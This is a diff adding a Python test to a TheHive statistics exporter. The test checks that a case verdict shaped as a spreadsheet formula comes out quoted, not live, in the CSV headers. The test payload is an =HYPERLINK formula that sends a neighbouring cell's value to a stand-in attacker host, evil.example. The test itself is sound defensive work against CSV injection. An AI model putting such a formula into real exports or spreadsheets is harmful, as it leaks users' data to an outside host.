@@ -6,6 +6,7 @@ verdict or a record, reporters named in every tag form, older records without a 
 
 from __future__ import annotations
 
+import csv
 import functools
 import json
 import os
@@ -186,6 +187,21 @@ def test_csv_writes_one_file_per_table_with_no_cell_a_spreadsheet_would_run(theh
     top = (tmp_path / "csv" / "top_reporters.csv").read_text()
     assert "'=cmd@example.org" in top
     assert "\n=cmd" not in top
+
+
+def test_a_verdict_that_reads_as_a_formula_is_quoted_in_the_columns_it_heads(thehive_https, stats, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    hive = CaseSearch(thehive_https, "5", [case(1, formula, ["alice@example.org"])])
+
+    result = stats(hive.url, "--csv", str(tmp_path / "csv"))
+
+    assert result.returncode == 0, result.stderr
+    for name in ("months", "month_reports", "top_reporters"):
+        [header, *_] = list(csv.reader((tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8")))
+        assert f"'{formula}" in header and formula not in header
+    # Nothing was measured: the placeholder stays as it is printed.
+    feedback = (tmp_path / "csv" / "feedback.csv").read_text(encoding="utf-8")
+    assert '"time to the verdict, median",-\n' in feedback and "'-" not in feedback
 
 
 def test_a_custom_field_thehive_lacks_is_said_with_the_names_that_come_close(thehive_https, stats):
